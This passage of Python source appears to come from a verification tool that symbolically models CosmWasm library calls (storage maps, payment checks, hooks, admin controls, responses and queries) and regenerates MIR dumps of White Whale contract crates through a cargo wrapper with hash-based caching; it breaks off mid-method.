@model('cw_storage_plus::Map::prefix', 'cw_storage_plus::Map::sub_prefix')
def _map_prefix(it, a, c): return Agg('Prefix', [ns_of(a[0]), keyparts(a[1])])


def sorted_entries(it, entries):
    out = []
    for e in entries:
        i = len(out)
        while i > 0 and parts_lt(it, e[0], out[i - 1][0]): i -= 1
        out.insert(i, e)
    return out


def bound_parts(b):
    """Option<Bound> -> None | (parts, inclusive)"""
    b = deref(b)
    if b.variant == 'None': return None
    bd = b.fields[0]
    incl = bd.variant in ('Inclusive', 'InclusiveRaw')
    inner = bd.fields[0]
    if isinstance(inner, Agg) and inner.name == 'tuple' and bd.variant in ('Inclusive', 'Exclusive'):
        inner = inner.fields[0]      # Bound::Inclusive((K, PhantomData))
    return keyparts(inner), incl


def _key_out(parts, bytes_key=False):
    parts = [dup(p) for p in parts]
    if bytes_key:         # Map<&[u8], _>: the owned key is a Vec<u8> (serialised as a byte array, not as text)
        parts = [Str(p.s, canon=[p]) if isinstance(p, Str) and p.s is not None and not p.canon else p for p in parts]
    return parts[0] if len(parts) == 1 else Agg('tuple', parts)


def _range(it, a, c, keys_only=False, raw=False):
    v = deref(a[0])
    if isinstance(v, Agg) and v.name == 'Prefix': ns, pre = v.fields[0], v.fields[1]
    else: ns, pre = ns_of(v), []
    it.world.reads.append(ns)
    m = mstore(it, ns)
    sel = []
    for e in m.entries:
        if len(e[0]) < len(pre): continue
        if it.ctx.branch(parts_eq(it, e[0][:len(pre)], pre), 'prefix'): sel.append([e[0][len(pre):], e[1]])
    sel = sorted_entries(it, sel)
    lo, hi = bound_parts(a[2]), bound_parts(a[3])
    out = []
    for e in sel:
        ok = True
        if lo is not None:
            lt = parts_lt(it, e[0], lo[0])
            if lt: continue
            if not lo[1] and it.ctx.branch(parts_eq(it, e[0], lo[0]), 'bound'): continue
        if hi is not None:
            gt = parts_lt(it, hi[0], e[0])
            if gt: continue
            if not hi[1] and it.ctx.branch(parts_eq(it, e[0], hi[0]), 'bound'): continue
        out.append(e)
    order = deref(a[4])
    if order.variant == 'Descending': out.reverse()
    bk = '&[u8]' in getattr(c, 'inst', '').split('>::')[0]
    if keys_only: return IterV([OK(_key_out(e[0], bk)) for e in out])
    return IterV([OK(Agg('tuple', [_key_out(e[0], bk), dup(e[1])])) for e in out])


MODELS['cw_storage_plus::Map::range'] = MODELS['cw_storage_plus::Prefix::range'] = lambda it, a, c: _range(it, a, c)
MODELS['cw_storage_plus::Map::keys'] = MODELS['cw_storage_plus::Prefix::keys'] = lambda it, a, c: _range(it, a, c, keys_only=True)
MODELS['cw_storage_plus::Map::range_raw'] = MODELS['cw_storage_plus::Prefix::range_raw'] = lambda it, a, c: _range(it, a, c)


@model('cw_storage_plus::Bound::inclusive', 'cw_storage_plus::Bound::exclusive')
def _bound(it, a, c):
    return Enum('cw_storage_plus::Bound', 'Inclusive' if c.key.endswith('inclusive') else 'Exclusive', [Agg('tuple', [a[0], UNIT()])])


# ---------------------------------------------------------------- cw2 / cw_utils / cw_controllers -------
@model('cw2::set_contract_version')
def _set_cv(it, a, c):
    it.world.storage['contract_info'] = Agg('cw2::ContractVersion', [sval(a[1]), sval(a[2])]); it.world.writes.append(('contract_info', 'save'))
    return OK(UNIT())
@model('cw2::get_contract_version')
def _get_cv(it, a, c):
    v = it.world.storage.get('contract_info')
    return OK(dup(v)) if v is not None else ERR(not_found('contract_info'))


def _funds(info): return seq(deref(info).fields[1])


@model('cw_utils::must_pay')
def _must_pay(it, a, c):
    funds = _funds(a[0]); denom = sval(a[1])
    if len(funds) == 0: return ERR(Enum('cw_utils::PaymentError', 'NoFunds', []))
    if len(funds) > 1: return ERR(Enum('cw_utils::PaymentError', 'MultipleDenoms', []))
    coin = funds[0]
    if not it.ctx.branch(struct_eq(it, coin.fields[0], denom), 'must_pay.denom'):
        return ERR(Enum('cw_utils::PaymentError', 'MissingDenom', [denom]))
    if it.ctx.branch(u(coin.fields[1]) == 0, 'must_pay.zero'): return ERR(Enum('cw_utils::PaymentError', 'NoFunds', []))
    return OK(dup(coin.fields[1]))
@model('cw_utils::may_pay')
def _may_pay(it, a, c):
    funds = _funds(a[0]); denom = sval(a[1])
    if len(funds) == 0: return OK(U128(0))
    if len(funds) > 1: return ERR(Enum('cw_utils::PaymentError', 'MultipleDenoms', []))
    coin = funds[0]
    if not it.ctx.branch(struct_eq(it, coin.fields[0], denom), 'may_pay.denom'):
        return ERR(Enum('cw_utils::PaymentError', 'ExtraDenom', [coin.fields[0]]))
    return OK(dup(coin.fields[1]))
@model('cw_utils::one_coin')
def _one_coin(it, a, c):
    funds = _funds(a[0])
    if len(funds) == 0: return ERR(Enum('cw_utils::PaymentError', 'NoFunds', []))
    if len(funds) > 1: return ERR(Enum('cw_utils::PaymentError', 'MultipleDenoms', []))
    if it.ctx.branch(u(funds[0].fields[1]) == 0, 'one_coin.zero'): return ERR(Enum('cw_utils::PaymentError', 'NoFunds', []))
    return OK(dup(funds[0]))
@model('cw_utils::nonpayable')
def _nonpayable(it, a, c):
    return OK(UNIT()) if len(_funds(a[0])) == 0 else ERR(Enum('cw_utils::PaymentError', 'NonPayable', []))
@model('cw_utils::parse_reply_instantiate_data')
def _parse_reply_inst(it, a, c):
    rep = a[0]; res = rep.fields[1]
    if res.variant == 'Err': return ERR(Enum('cw_utils::ParseReplyError', 'SubMsgFailure', [res.fields[0]]))
    data = res.fields[0].fields[1]
    if data.variant == 'None': return ERR(Enum('cw_utils::ParseReplyError', 'ParseFailure', [Str('Missing reply data')]))
    p = data.fields[0].fields[0]
    if isinstance(p, Opaque) and p.tag == 'instantiate_data':
        return OK(Agg('cw_utils::MsgInstantiateContractResponse', [p.payload, NONE()]))
    return ERR(Enum('cw_utils::ParseReplyError', 'ParseFailure', [Str('bad reply data')]))


@model('cw_utils::parse_reply_execute_data', 'cw_utils::parse_execute_response_data')
def _parse_reply_exec(it, a, c):
    rep = a[0]; res = rep.fields[1]
    if res.variant == 'Err': return ERR(Enum('cw_utils::ParseReplyError', 'SubMsgFailure', [res.fields[0]]))
    data = res.fields[0].fields[1]
    if data.variant == 'None': return ERR(Enum('cw_utils::ParseReplyError', 'ParseFailure', [Str('Missing reply data')]))
    p = data.fields[0].fields[0]
    if isinstance(p, Opaque) and p.tag == 'exec_data':
        inner = SOME(Agg(CS + 'Binary', [Opaque('json', p.payload)])) if p.payload is not None else NONE()
        return OK(Agg('cw_utils::MsgExecuteContractResponse', [inner]))
    return ERR(Enum('cw_utils::ParseReplyError', 'ParseFailure', [Str('bad reply data')]))


@model('cw_controllers::Hooks::prepare_hooks')
def _prepare_hooks(it, a, c):
    out = []
    for h in it.world.hooks.get(ns_of(a[0]), []):
        r = it.call_closure(a[2], [ADDR(h)])
        if r.variant == 'Err': return r
        out.append(r.fields[0])
    return OK(VecV(out))
@model('cw_controllers::Hooks::add_hook')
def _add_hook(it, a, c):
    ns = ns_of(a[0]); hs = it.world.hooks.setdefault(ns, []); addr = deref(a[2])
    for h in hs:
        if it.ctx.branch(struct_eq(it, ADDR(h), addr), 'hook'): return ERR(Enum('cw_controllers::HookError', 'HookAlreadyRegistered', []))
    hs.append(addr.fields[0]); it.world.writes.append((ns, 'add_hook')); return OK(UNIT())
@model('cw_controllers::Hooks::remove_hook')
def _remove_hook(it, a, c):
    ns = ns_of(a[0]); hs = it.world.hooks.setdefault(ns, []); addr = deref(a[2])
    for i, h in enumerate(hs):
        if it.ctx.branch(struct_eq(it, ADDR(h), addr), 'hook'):
            hs.pop(i); it.world.writes.append((ns, 'remove_hook')); return OK(UNIT())
    return ERR(Enum('cw_controllers::HookError', 'HookNotRegistered', []))
@model('cw_controllers::Admin::set')
def _admin_set(it, a, c):
    ns = ns_of(a[0]); it.world.admin[ns] = dup(a[2]); it.world.writes.append((ns, 'admin_set')); return OK(UNIT())
@model('cw_controllers::Admin::get')
def _admin_get(it, a, c): return OK(dup(it.world.admin.get(ns_of(a[0]), NONE())))
@model('cw_controllers::Admin::assert_admin')
def _admin_assert(it, a, c):
    adm = it.world.admin.get(ns_of(a[0]), NONE())
    if adm.variant == 'Some' and it.ctx.branch(struct_eq(it, adm.fields[0], a[2]), 'admin'): return OK(UNIT())
    return ERR(Enum('cw_controllers::AdminError', 'NotAdmin', []))
@model('cw_controllers::Admin::is_admin')
def _admin_is(it, a, c):
    adm = it.world.admin.get(ns_of(a[0]), NONE())
    return OK(adm.variant == 'Some' and it.ctx.branch(struct_eq(it, adm.fields[0], a[2]), 'admin'))


# ---------------------------------------------------------------- Deps / Api -----------------------------
def mk_deps(mut=True):
    q = Agg(CS + 'QuerierWrapper', [Ref([Opaque('querier')], 0), UNIT()])
    return Agg(CS + ('DepsMut' if mut else 'Deps'), [Ref([Opaque('storage')], 0), Ref([Opaque('api')], 0), q])


@model('cosmwasm_std::DepsMut::as_ref', 'cosmwasm_std::DepsMut::branch', 'cosmwasm_std::OwnedDeps::as_ref', 'cosmwasm_std::OwnedDeps::as_mut')
def _deps_as_ref(it, a, c):
    d = deref(a[0]); return Agg(CS + ('Deps' if c.key.endswith('as_ref') else 'DepsMut'), list(d.fields))


@model('<dyn cosmwasm_std::Api as cosmwasm_std::Api>::addr_validate')
def _addr_validate(it, a, c): return OK(ADDR(sval(a[1])))
@model('<dyn cosmwasm_std::Api as cosmwasm_std::Api>::addr_canonicalize')
def _addr_canon(it, a, c):
    s = sval(a[1]); return OK(Agg(CS + 'CanonicalAddr', [Str(s.s, s.sym, parts=s.parts, canon=True)]))
@model('<dyn cosmwasm_std::Api as cosmwasm_std::Api>::addr_humanize')
def _addr_human(it, a, c):
    s = deref(deref(a[1]).fields[0]); return OK(ADDR(Str(s.s, s.sym, parts=s.parts)))
@model('<dyn cosmwasm_std::Api as cosmwasm_std::Api>::debug')
def _api_debug(it, a, c): return UNIT()
@model('cosmwasm_std::CanonicalAddr::as_slice', '<cosmwasm_std::CanonicalAddr as std::ops::Deref>::deref')
def _canon_slice(it, a, c): return Ref(deref(a[0]).fields, 0)


# ---------------------------------------------------------------- Binary / JSON --------------------------
def BIN(v): return Agg(CS + 'Binary', [Opaque('json', v)])


@model('cosmwasm_std::to_json_binary', 'cosmwasm_std::to_binary', 'cosmwasm_std::to_json_vec', 'cosmwasm_std::to_vec')
def _to_json(it, a, c): return OK(BIN(dup(deref(a[0]))))
@model('cosmwasm_std::from_json', 'cosmwasm_std::from_binary', 'cosmwasm_std::from_slice')
def _from_json(it, a, c):
    b = deref(a[0])
    if isinstance(b, Agg) and b.name == CS + 'Binary': p = b.fields[0]
    else: p = b
    if isinstance(p, Opaque) and p.tag == 'json': return OK(dup(p.payload))
    if isinstance(p, Opaque) and p.tag == 'json_err': return ERR(Opaque('StdError::ParseErr', p.payload))
    raise Unsupported('from_json of %r' % (b,))
@model('cosmwasm_std::Binary::as_slice', '<cosmwasm_std::Binary as std::ops::Deref>::deref')
def _bin_slice(it, a, c): return a[0]
@model('<cosmwasm_std::Binary as std::default::Default>::default')
def _bin_default(it, a, c): return Agg(CS + 'Binary', [Opaque('bytes', VecV([]))])


# ---------------------------------------------------------------- Response & messages ---------------------
def RESP(): return Agg(CS + 'Response', [VecV([]), VecV([]), VecV([]), NONE()])
def REPLY_ON(v): return Enum(CS + 'ReplyOn', v, [])
def SUBMSG(msg, id=0, reply_on='Never'): return Agg(CS + 'SubMsg', [id, msg, NONE(), REPLY_ON(reply_on)])


def to_cosmos(it, m):
    m = deref(m)
    if isinstance(m, Enum) and m.name == CS + 'WasmMsg': return Enum(CS + 'CosmosMsg', 'Wasm', [m])
    if isinstance(m, Enum) and m.name == CS + 'BankMsg': return Enum(CS + 'CosmosMsg', 'Bank', [m])
    return m


@model('cosmwasm_std::Response::new', '<cosmwasm_std::Response as std::default::Default>::default')
def _resp_new(it, a, c): return RESP()
@model('cosmwasm_std::Response::add_message')
def _add_msg(it, a, c): a[0].fields[0].items.append(SUBMSG(to_cosmos(it, a[1]))); return a[0]
@model('cosmwasm_std::Response::add_messages')
def _add_msgs(it, a, c):
    for m in as_iter(it, a[1]).drain(it): a[0].fields[0].items.append(SUBMSG(to_cosmos(it, m)))
    return a[0]
@model('cosmwasm_std::Response::add_submessage')
def _add_submsg(it, a, c): a[0].fields[0].items.append(a[1]); return a[0]
@model('cosmwasm_std::Response::add_submessages')
def _add_submsgs(it, a, c):
    for m in as_iter(it, a[1]).drain(it): a[0].fields[0].items.append(m)
    return a[0]
@model('cosmwasm_std::Response::add_attribute')
def _add_attr(it, a, c):
    a[0].fields[1].items.append(Agg(CS + 'Attribute', [to_string(it, a[1]), to_string(it, a[2])])); return a[0]
@model('cosmwasm_std::Response::add_attributes')
def _add_attrs(it, a, c):
    for kv in as_iter(it, a[1]).drain(it):
        kv = deref(kv)
        if isinstance(kv, Agg) and kv.name == 'tuple':
            kv = Agg(CS + 'Attribute', [to_string(it, kv.fields[0]), to_string(it, kv.fields[1])])
        a[0].fields[1].items.append(kv)
    return a[0]
@model('cosmwasm_std::Response::add_event')
def _add_event(it, a, c): a[0].fields[2].items.append(a[1]); return a[0]
@model('cosmwasm_std::Response::add_events')
def _add_events(it, a, c):
    for e in as_iter(it, a[1]).drain(it): a[0].fields[2].items.append(e)
    return a[0]
@model('cosmwasm_std::Response::set_data')
def _set_data(it, a, c):
    d = deref(a[1])
    a[0].fields[3] = SOME(d if isinstance(d, Agg) and d.name == CS + 'Binary' else Agg(CS + 'Binary', [Opaque('bytes', d)])); return a[0]
@model('cosmwasm_std::attr')
def _attr(it, a, c): return Agg(CS + 'Attribute', [to_string(it, a[0]), to_string(it, a[1])])
@model('cosmwasm_std::Event::new')
def _event_new(it, a, c): return Agg(CS + 'Event', [to_string(it, a[0]), VecV([])])
@model('cosmwasm_std::Event::add_attribute')
def _event_add_attr(it, a, c): a[0].fields[1].items.append(Agg(CS + 'Attribute', [to_string(it, a[1]), to_string(it, a[2])])); return a[0]
@model('cosmwasm_std::Event::add_attributes')
def _event_add_attrs(it, a, c):
    for kv in as_iter(it, a[1]).drain(it): a[0].fields[1].items.append(kv)
    return a[0]
@model('cosmwasm_std::SubMsg::new')
def _submsg_new(it, a, c): return SUBMSG(to_cosmos(it, a[0]))
@model('cosmwasm_std::SubMsg::reply_on_success')
def _submsg_ros(it, a, c): return SUBMSG(to_cosmos(it, a[0]), a[1], 'Success')
@model('cosmwasm_std::SubMsg::reply_on_error')
def _submsg_roe(it, a, c): return SUBMSG(to_cosmos(it, a[0]), a[1], 'Error')
@model('cosmwasm_std::SubMsg::reply_always')
def _submsg_ra(it, a, c): return SUBMSG(to_cosmos(it, a[0]), a[1], 'Always')
@model('cosmwasm_std::wasm_execute')
def _wasm_execute(it, a, c):
    return OK(Enum(CS + 'WasmMsg', 'Execute', [to_string(it, a[0]), BIN(dup(deref(a[1]))), a[2]]))
@model('cosmwasm_std::wasm_instantiate')
def _wasm_instantiate(it, a, c):
    return OK(Enum(CS + 'WasmMsg', 'Instantiate', [NONE(), a[0], BIN(dup(deref(a[1]))), a[2], a[3]]))
@model('cosmwasm_std::coins')
def _coins(it, a, c): return VecV([COIN(to_string(it, a[1]), a[0])])
@model('cosmwasm_std::coin', 'cosmwasm_std::Coin::new')
def _coin(it, a, c): return COIN(to_string(it, a[1]), a[0])
@model('cosmwasm_std::has_coins')
def _has_coins(it, a, c):
    req = deref(a[1])
    for coin in seq(a[0]):
        if it.ctx.branch(struct_eq(it, coin.fields[0], req.fields[0]), 'has_coins'):
            return u(coin.fields[1]) >= u(req.fields[1])
    return False
@model('cosmwasm_std::SubMsgResult::into_result')
def _smr_into(it, a, c):
    v = a[0]
    return OK(v.fields[0]) if v.variant == 'Ok' else ERR(v.fields[0])
@model('cosmwasm_std::SubMsgResult::unwrap')
def _smr_unwrap(it, a, c):
    if a[0].variant == 'Ok': return a[0].fields[0]
    raise PanicPath('called `SubMsgResult::unwrap()` on an `Err` value')
@model('cosmwasm_std::SubMsgResult::is_err')
def _smr_is_err(it, a, c): return deref(a[0]).variant == 'Err'
@model('cosmwasm_std::SubMsgResult::is_ok')
def _smr_is_ok(it, a, c): return deref(a[0]).variant == 'Ok'


# ---------------------------------------------------------------- errors ------------------------------------
@model('cosmwasm_std::StdError::generic_err')
def _generic_err(it, a, c): return Opaque('StdError::GenericErr', to_string(it, a[0]))
@model('cosmwasm_std::StdError::not_found')
def _not_found(it, a, c): return Opaque('StdError::NotFound', to_string(it, a[0]))
@model('cosmwasm_std::StdError::overflow')
def _err_overflow(it, a, c): return Opaque('StdError::Overflow', a[0])
@model('cosmwasm_std::StdError::divide_by_zero')
def _err_dbz(it, a, c): return Opaque('StdError::DivideByZero', a[0])
@model('cosmwasm_std::StdError::parse_err', 'cosmwasm_std::StdError::invalid_utf8', 'cosmwasm_std::StdError::serialize_err',
       'cosmwasm_std::StdError::invalid_data_size', 'cosmwasm_std::StdError::invalid_base64')
def _err_other(it, a, c): return Opaque('StdError::' + c.key.split('::')[-1])
@model('cosmwasm_std::OverflowError::new')
def _ovf_new(it, a, c): return Agg(CS + 'OverflowError', [a[0], Str('?'), Str('?')])
@model('cosmwasm_std::DivideByZeroError::new')
def _dbz_new(it, a, c): return Agg(CS + 'DivideByZeroError', [Str('?')])
@model('cosmwasm_std::ConversionOverflowError::new')
def _cof_new(it, a, c): return Agg(CS + 'ConversionOverflowError', [Str('?'), Str('?'), Str('?')])


# ---------------------------------------------------------------- querier ------------------------------------
def resp_ty(c):
    m = re.search(r'::query(?:_wasm_smart)?::<(.*)>$', c.inst)
    if not m: return ''
    from .mirparse import split_top
    return split_top(m.group(1))[0]


def smart_query(it, addr, msg, c):
    w = it.world; addr = S(deref(addr)) if not isinstance(deref(addr), Agg) else deref(addr).fields[0]
    msg = deref(msg)
    for k, h in w.smart.items():
        if it.ctx.branch(struct_eq(it, addr, Str(k)), 'smart'): return h(it, msg, c)
    for a, q, resp in w.smart_table:
        a = S(a)
        if it.ctx.branch(zand(struct_eq(it, addr, a), struct_eq(it, msg, q)), 'smart_table'):
            if isinstance(resp, Opaque) and resp.tag == 'query_error': return ERR(Opaque('StdError::GenericErr', Str('Querier contract error')))
            return OK(dup(resp))
    if isinstance(msg, Enum) and msg.name == 'cw20::Cw20QueryMsg':
        if msg.variant == 'Balance':
            return OK(Agg('cw20::BalanceResponse', [U128(w.cw20_balance(it, addr, S(msg.fields[0])))]))
        if msg.variant == 'TokenInfo':
            for k, info in w.cw20_info.items():
                if it.ctx.branch(struct_eq(it, addr, Str(k)), 'tokeninfo'):
                    return OK(Agg('cw20::TokenInfoResponse', [Str('token'), Str('TKN'), info.get('decimals', 6), U128(info['total_supply'])]))
        if msg.variant == 'Allowance':
            for t, o, s, amt in w.allow:
                if it.ctx.branch(zand(struct_eq(it, t, addr), struct_eq(it, o, S(msg.fields[0])), struct_eq(it, s, S(msg.fields[1]))), 'allow'):
                    return OK(Agg('cw20::AllowanceResponse', [U128(amt), Enum('cw_utils::Expiration', 'Never', [])]))
            return OK(Agg('cw20::AllowanceResponse', [U128(0), Enum('cw_utils::Expiration', 'Never', [])]))
    if w.smart_default is not None: return w.smart_default(it, addr, msg, c)
    raise Unsupported('smart query to %r: %r' % (addr, msg))


@model('cosmwasm_std::QuerierWrapper::query_wasm_smart')
def _q_smart(it, a, c): return smart_query(it, to_string(it, a[1]), a[2], c)
@model('cosmwasm_std::QuerierWrapper::query_balance')
def _q_balance(it, a, c):
    addr = to_string(it, a[1]); denom = to_string(it, a[2])
    return OK(COIN(denom, it.world.bank_balance(it, addr, denom)))
@model('cosmwasm_std::QuerierWrapper::query_supply')
def _q_supply(it, a, c):
    denom = to_string(it, a[1])
    for k, v in it.world.supply.items():
        if it.ctx.branch(struct_eq(it, denom, Str(k)), 'supply'): return OK(COIN(denom, v))
    raise Unsupported('supply of %r' % (denom,))
@model('cosmwasm_std::QuerierWrapper::query_all_balances')
def _q_all_balances(it, a, c):
    addr = to_string(it, a[1]); out = []
    for ad, d, amt in it.world.bank:
        if it.ctx.branch(struct_eq(it, ad, addr), 'allbal'): out.append(COIN(d, amt))
    return OK(VecV(out))
@model('cosmwasm_std::QuerierWrapper::query')
def _q_query(it, a, c):
    req = deref(a[1])
    if req.variant == 'Wasm':
        wq = req.fields[0]
        if wq.variant == 'Smart':
            p = wq.fields[1].fields[0]
            return smart_query(it, wq.fields[0], p.payload if isinstance(p, Opaque) else p, c)
    if req.variant == 'Bank':
        bq = req.fields[0]
        if bq.variant == 'Balance':
            return OK(Agg(CS + 'BalanceResponse', [COIN(bq.fields[1], it.world.bank_balance(it, S(bq.fields[0]), S(bq.fields[1])))]))
        if bq.variant == 'Supply':
            for k, v in it.world.supply.items():
                if it.ctx.branch(struct_eq(it, bq.fields[0], Str(k)), 'supply'):
                    return OK(Agg(CS + 'SupplyResponse', [COIN(bq.fields[0], v)]))
        if bq.variant == 'AllBalances':
            out = []
            for ad, d, amt in it.world.bank:
                if it.ctx.branch(struct_eq(it, ad, S(bq.fields[0])), 'allbal'): out.append(COIN(d, amt))
            return OK(Agg(CS + 'AllBalanceResponse', [VecV(out)]))
    raise Unsupported('query %r' % (req,))
@model('cosmwasm_std::QuerierWrapper::query_wasm_contract_info')
def _q_contract_info(it, a, c):
    ci = getattr(it.world, 'cinfo', None)       # dict(code_id, creator, admin | None): the answer for every address
    if ci is None: raise Unsupported('contract info query')
    return OK(Agg('cosmwasm_std::ContractInfoResponse', [ci['code_id'], Str(ci['creator']), SOME(Str(ci['admin'])) if ci.get('admin') else NONE(), False, NONE()]))


def _hook_admin_ok(it, a):
    adm = it.world.admin.get(ns_of(a[1]), NONE())
    sender = deref(a[3]).fields[0]
    return adm.variant == 'Some' and it.ctx.branch(struct_eq(it, adm.fields[0], sender), 'admin')


@model('cw_controllers::Hooks::execute_add_hook')
def _exec_add_hook(it, a, c):
    if not _hook_admin_ok(it, a): return ERR(Enum('cw_controllers::HookError', 'Admin', [Enum('cw_controllers::AdminError', 'NotAdmin', [])]))
    r = _add_hook(it, [a[0], None, a[4]], c)
    if r.variant == 'Err': return r
    resp = RESP()
    for k, v in (('action', Str('add_hook')), ('hook', to_string(it, a[4])), ('sender', to_string(it, deref(a[3]).fields[0]))):
        resp.fields[1].items.append(Agg(CS + 'Attribute', [Str(k), v]))
    return OK(resp)


@model('cw_controllers::Hooks::execute_remove_hook')
def _exec_remove_hook(it, a, c):
    if not _hook_admin_ok(it, a): return ERR(Enum('cw_controllers::HookError', 'Admin', [Enum('cw_controllers::AdminError', 'NotAdmin', [])]))
    r = _remove_hook(it, [a[0], None, a[4]], c)
    if r.variant == 'Err': return r
    resp = RESP()
    for k, v in (('action', Str('remove_hook')), ('hook', to_string(it, a[4])), ('sender', to_string(it, deref(a[3]).fields[0]))):
        resp.fields[1].items.append(Agg(CS + 'Attribute', [Str(k), v]))
    return OK(resp)


def _protobuf_parse(it, a, c):
    """<T as protobuf::Message>::parse_from_bytes for the MsgInstantiateContractResponse structs the factories define."""
    m = re.match(r'^<(.+) as protobuf::Message>::parse_from_bytes$', c.inst)
    ty = norm(m.group(1)) if m else ''
    b = deref(a[0])
    p = b.fields[0] if isinstance(b, Agg) and b.name == CS + 'Binary' else b
    if not (isinstance(p, Opaque) and p.tag == 'instantiate_data'): return ERR(Opaque('protobuf::Error'))
    addr, data = p.payload if isinstance(p.payload, tuple) else (p.payload, None)
    fs = it.fields_of(ty)
    if fs is None: raise Unsupported('protobuf message type ' + ty)
    vals = []
    for fname, fty in fs:
        if fname in ('address', 'contract_address'): vals.append(addr)
        elif fname == 'data': vals.append(Opaque('json', data) if data is not None else VecV([]))
        else: vals.append(Agg(norm(fty), []))
    return OK(Agg(ty, vals))
DEF_MODELS['protobuf::Message::parse_from_bytes'] = _protobuf_parse


def instantiate_reply(rid, addr, data=None):
    """Reply carrying the protobuf MsgInstantiateContractResponse {address, data} of a successful instantiate submessage."""
    payload = Agg(CS + 'Binary', [Opaque('instantiate_data', (S(addr), data))])
    return Agg(CS + 'Reply', [rid, Enum(CS + 'SubMsgResult', 'Ok', [Agg(CS + 'SubMsgResponse', [VecV([]), SOME(payload)])])])


@model('std::vec::Vec::as_slice')
def _vec_as_slice(it, a, c): return a[0]
