"""Front end: regenerate MIR + side tables from /repo's working tree (cargo decides freshness), index and lazily parse."""
import json, os, re, subprocess, sys, time, fcntl, hashlib, glob

from . import mirparse

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get('VERIF_REPO', '/repo')
CACHE = os.path.join(VERIF, '.cache')
MIRDIR = os.path.join(CACHE, 'mir')
TARGET = os.path.join(CACHE, 'target-mir')
DRIVER = os.path.join(CACHE, 'bin', 'mirside')

# cargo package spec -> rustc crate name
PACKAGES = {
    'white_whale_std': 'path+file://%s/packages/white-whale-std#1.2.6' % REPO,
    'terraswap_pair': 'terraswap-pair', 'stableswap_3pool': 'stableswap-3pool', 'terraswap_factory': 'terraswap-factory',
    'terraswap_router': 'terraswap-router', 'vault': 'vault', 'vault_factory': 'vault_factory', 'vault_router': 'vault_router',
    'whale_lair': 'whale-lair', 'frontend_helper': 'frontend-helper', 'incentive': 'incentive',
    'incentive_factory': 'incentive-factory', 'fee_collector': 'fee_collector', 'fee_distributor': 'fee_distributor',
    'epoch_manager': 'epoch-manager',
}
CRATE_DIRS = {
    'white_whale_std': 'packages/white-whale-std', 'terraswap_pair': 'contracts/liquidity_hub/pool-network/terraswap_pair',
    'stableswap_3pool': 'contracts/liquidity_hub/pool-network/stableswap_3pool',
    'terraswap_factory': 'contracts/liquidity_hub/pool-network/terraswap_factory',
    'terraswap_router': 'contracts/liquidity_hub/pool-network/terraswap_router',
    'vault': 'contracts/liquidity_hub/vault-network/vault', 'vault_factory': 'contracts/liquidity_hub/vault-network/vault_factory',
    'vault_router': 'contracts/liquidity_hub/vault-network/vault_router', 'whale_lair': 'contracts/liquidity_hub/whale_lair',
    'frontend_helper': 'contracts/liquidity_hub/pool-network/frontend_helper',
    'incentive': 'contracts/liquidity_hub/pool-network/incentive',
    'incentive_factory': 'contracts/liquidity_hub/pool-network/incentive_factory',
    'fee_collector': 'contracts/liquidity_hub/fee_collector', 'fee_distributor': 'contracts/liquidity_hub/fee_distributor',
    'epoch_manager': 'contracts/liquidity_hub/epoch-manager',
}


def _sysroot():
    return subprocess.check_output(['rustc', '+nightly', '--print', 'sysroot'], text=True).strip()


def build_driver(force=False):
    src = os.path.join(VERIF, 'driver', 'mirside.rs')
    if not force and os.path.exists(DRIVER) and os.path.getmtime(DRIVER) > os.path.getmtime(src):
        return
    os.makedirs(os.path.dirname(DRIVER), exist_ok=True)
    subprocess.check_call(['rustc', '+nightly', '--edition', '2021', '-O', src, '-o', DRIVER])


def source_hash(crate):
    h = hashlib.sha256()
    d = os.path.join(REPO, CRATE_DIRS[crate])
    for p in sorted(glob.glob(os.path.join(d, 'src', '**', '*.rs'), recursive=True)) + [os.path.join(d, 'Cargo.toml')]:
        h.update(p.encode()); h.update(open(p, 'rb').read())
    return h.hexdigest()[:16]


def regenerate(crates, log=None):
    """Run `cargo +nightly check` with the mirside wrapper for the given rustc crate names; returns seconds spent."""
    t0 = time.time()
    build_driver()
    os.makedirs(MIRDIR, exist_ok=True)
    lock = open(os.path.join(CACHE, 'mir.lock'), 'w')
    fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        env = dict(os.environ)
        env['LD_LIBRARY_PATH'] = _sysroot() + '/lib:' + env.get('LD_LIBRARY_PATH', '')
        env.update(MIRSIDE_OUT=MIRDIR, MIRSIDE_CRATES=','.join(crates), RUSTC_WORKSPACE_WRAPPER=DRIVER,
                   CARGO_TARGET_DIR=TARGET, CARGO_NET_OFFLINE='true')
        env.pop('RUSTFLAGS', None)
        cmd = ['cargo', '+nightly', 'check', '--offline', '--lib', '-q']
        for c in crates: cmd += ['-p', PACKAGES[c]]
        for attempt in range(2):
            # a crate whose dump is missing or older than its sources is forced to rebuild
            stale = []
            for c in crates:
                f = os.path.join(MIRDIR, c + '.mirx'); tag = f + '.hash'
                if not os.path.exists(f) or not os.path.exists(tag) or open(tag).read() != source_hash(c):
                    stale.append(c)
            if not stale:
                break
            for c in stale:
                for p in glob.glob(os.path.join(TARGET, 'debug', '.fingerprint', PACKAGES[c].split('#')[0].split('/')[-1] + '-*')):
                    subprocess.call(['rm', '-rf', p])
                if os.path.exists(os.path.join(MIRDIR, c + '.mirx')): os.remove(os.path.join(MIRDIR, c + '.mirx'))
            r = subprocess.run(cmd, cwd=REPO, env=env, capture_output=True, text=True)
            if r.returncode != 0:
                sys.stderr.write(r.stderr[-4000:])
                raise RuntimeError('cargo check failed while regenerating MIR')
            for c in stale:
                f = os.path.join(MIRDIR, c + '.mirx')
                if not os.path.exists(f):
                    raise RuntimeError('driver produced no dump for ' + c)
                open(f + '.hash', 'w').write(source_hash(c))
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
    return time.time() - t0


class Program:
    """Lazily parsed union of several crate dumps."""
    def __init__(self, crates, regen=True):
        self.crates = list(crates)
        self.regen_s = regenerate(self.crates) if regen else 0.0
        self.items = {}      # name -> (crate, side json, text)
        self.adts = {}       # adt name -> record
        self.parsed = {}
        self.by_closure_span = {}
        self.hashes = {}
        for c in self.crates:
            self._load(c)

    def _load(self, crate):
        path = os.path.join(MIRDIR, crate + '.mirx')
        self.hashes[crate] = source_hash(crate)
        data = open(path).read()
        pos = 0
        for chunk in data.split('\n@@'):
            if chunk.startswith('@@'): chunk = chunk[2:]
            if chunk.startswith('ITEM '):
                nl = chunk.index('\n')
                rec = json.loads(chunk[5:nl])
                self.items[rec['name']] = (crate, rec, chunk[nl + 1:])
            elif chunk.startswith('ADT '):
                nl = chunk.find('\n')
                rec = json.loads(chunk[4:] if nl < 0 else chunk[4:nl])
